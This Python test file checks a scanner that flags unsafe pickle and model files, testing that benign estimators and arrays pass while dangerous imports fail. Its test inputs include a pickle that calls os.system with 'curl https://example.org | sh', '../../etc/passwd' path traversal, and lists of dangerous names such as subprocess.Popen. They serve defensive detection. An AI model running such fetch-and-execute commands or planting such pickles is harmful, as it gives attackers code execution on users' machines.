"""What loading a file would run is judged by three classes of names."""

from __future__ import annotations

import pickle
from collections import OrderedDict, defaultdict
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from functools import partial
from pathlib import Path, PurePosixPath

import numpy as np
import pytest

from checks.security.dangerous_names import danger
from checks.security.safe_names import is_class_of_known_package, is_safe
from checks.security.unsafe_pickle import unsafe_pickle
from ml_debugger.artifacts import EmbeddedCode, PickleCall, PickleContents, PickleImport
from ml_debugger.contract import Measurement, NotMeasured, Settings, Status
from ml_debugger.readers.head import read_head
from ml_debugger.readers.pickles import contents_of
from ml_debugger.testing.hostile_pickles import EVASIONS, call
from ml_debugger.testing.plant import faults

Write = Callable[[str, str | bytes], Path]


def judge(contents: PickleContents) -> Status:
    outcome = unsafe_pickle.run((contents,), Settings({}))
    if isinstance(outcome, NotMeasured):
        return Status.SKIP
    limits = {limit.name: limit for limit in unsafe_pickle.limits}
    judged = [limits[name].judge(value) for name, value in outcome.values.items()]
    return max(judged, key=lambda status: status.gravity)


def status(file: Path) -> Status | None:
    contents = contents_of(read_head(file, file.name))
    return None if contents is None else judge(contents)


def importing(*names: str) -> PickleContents:
    return PickleContents("m", "m", "pickle", 1, tuple(PickleImport(n, 0) for n in names))


@pytest.mark.parametrize("case", EVASIONS)
def test_every_detour_is_judged(case: str, write: Write) -> None:
    expected = Status.WARN if case == "extension registry" else Status.FAIL
    assert status(write(*EVASIONS[case]())) is expected


def test_the_clean_twin_passes(twin: Path) -> None:
    found = [status(file) for file in sorted(twin.rglob("*")) if file.is_file()]
    assert {one for one in found if one is not None} == {Status.PASS}


def test_the_planted_pickle_fails(twin: Path) -> None:
    faults()["unsafe-pickle"].plant(twin, np.random.default_rng(3))
    assert status(twin / "models" / "regime.pkl") is Status.FAIL


VALUES = {
    "plain": [1, 2.0, "a", None, True, b"x", {1: (2, 3)}, {4}, frozenset({5}), range(3), 1j],
    "dates": [date(2025, 1, 2), datetime(2025, 1, 2, tzinfo=UTC), Decimal("1.5")],
    "collections": [OrderedDict(a=1), defaultdict(list, a=[1]), PurePosixPath("/a")],
    "arrays": [np.arange(3), np.float32(1), np.array(["a"], dtype=object), np.dtype("f8")],
    "random": [np.random.default_rng(1), np.random.RandomState(1)],
    "ufunc": [np.log1p, partial(max, 1)],
}


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("kind", VALUES)
def test_values_of_every_day_pass(kind: str, protocol: int, write: Write) -> None:
    assert status(write("v.pkl", pickle.dumps(VALUES[kind], protocol))) is Status.PASS


@pytest.mark.parametrize(
    "name",
    [
        "sklearn.pipeline.Pipeline",
        "sklearn.ensemble._forest.RandomForestClassifier",
        "sklearn.tree._tree.Tree",
        "sklearn._loss._loss.__pyx_unpickle_CyHalfBinomialLoss",
        "xgboost.sklearn.XGBClassifier",
        "lightgbm.basic.Booster",
        "pandas.core.frame.DataFrame",
        "pandas.DataFrame",
        "statsmodels.tsa.arima.model.ARIMAResultsWrapper",
        "torch.nn.modules.rnn.LSTM",
        "torch.optim.adamw.AdamW",
        "transformers.training_args.TrainingArguments",
        "optuna.study.study.Study",
        "argparse.Namespace",
    ],
)
def test_estimators_and_modules_pass(name: str) -> None:
    assert judge(importing(name)) is Status.PASS


@pytest.mark.parametrize("name", ["__main__.LSTM", "model.Net", "strategy.features.Scaler"])
def test_classes_of_the_own_project_warn_and_are_named(name: str) -> None:
    contents = importing(name, "collections.OrderedDict")
    assert judge(contents) is Status.WARN
    outcome = unsafe_pickle.run((contents,), Settings({}))
    assert isinstance(outcome, Measurement)
    assert outcome.title == f"Loading it runs code that is not known to be safe: {name}"


def test_functions_that_an_estimator_stores_run_nothing() -> None:
    name = "sklearn.cluster._kmeans._kmeans_single_elkan"
    assert judge(importing(name)) is Status.PASS
    called = PickleCall(name, (), 0)
    assert judge(PickleContents("m", "m", "pickle", 1, (PickleImport(name, 0),), (called,))) is (
        Status.WARN
    )


def test_what_torch_loads_without_being_told_is_safe() -> None:
    unpickler = pytest.importorskip("torch._weights_only_unpickler")
    allowed = set(unpickler._get_allowed_globals())
    assert {name for name in allowed if not is_safe(name)} == set()


def test_no_safe_name_is_a_way_to_danger() -> None:
    for module in ("sklearn.utils", "torch.nn.modules", "pandas.core.frame", "numpy", "torch"):
        for name in ("os.system", "subprocess.Popen", "__builtins__", "X.__globals__"):
            assert danger(f"{module}.{name}") is not None
            assert not is_safe(f"{module}.{name}")
    assert not is_class_of_known_package("sklearn.utils._testing.TempMemmap")


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (EmbeddedCode("keras-lambda", "Lambda"), Status.WARN),
        (EmbeddedCode("keras-reference", "keras.layers.Dense"), Status.PASS),
        (EmbeddedCode("keras-reference", "layers.Attention"), Status.WARN),
        (EmbeddedCode("keras-reference", "subprocess.run"), Status.FAIL),
        (EmbeddedCode("onnx-external", "weights.bin"), Status.PASS),
        (EmbeddedCode("onnx-external", "../../etc/passwd"), Status.FAIL),
        (EmbeddedCode("onnx-external", "/etc/passwd"), Status.FAIL),
        (EmbeddedCode("pickled-code", "x mean shift"), Status.PASS),
        (EmbeddedCode("pickled-code", "os system"), Status.FAIL),
    ],
)
def test_code_beside_pickles(code: EmbeddedCode, expected: Status) -> None:
    assert judge(PickleContents("m", "m", "keras-zip", 0, code=(code,))) is expected


def test_what_was_not_looked_at_never_passes() -> None:
    assert judge(PickleContents("m", "m", "zip", 0, unread=("a: is encrypted",))) is Status.SKIP
    found = PickleContents(
        "m", "m", "zip", 1, (PickleImport("os.system", 0),), unread=("a: is encrypted",)
    )
    assert judge(found) is Status.FAIL


def test_the_title_says_what_it_would_do(write: Write) -> None:
    file = write("m.pkl", call("os", "system", "curl https://example.org | sh"))
    contents = contents_of(read_head(file, "m.pkl"))
    assert contents is not None
    outcome = unsafe_pickle.run((contents,), Settings({}))
    assert isinstance(outcome, Measurement)
    assert outcome.title == "Loading it calls os.system('curl https://example.org | sh')"
    assert outcome.evidence[0].where == "byte 49"
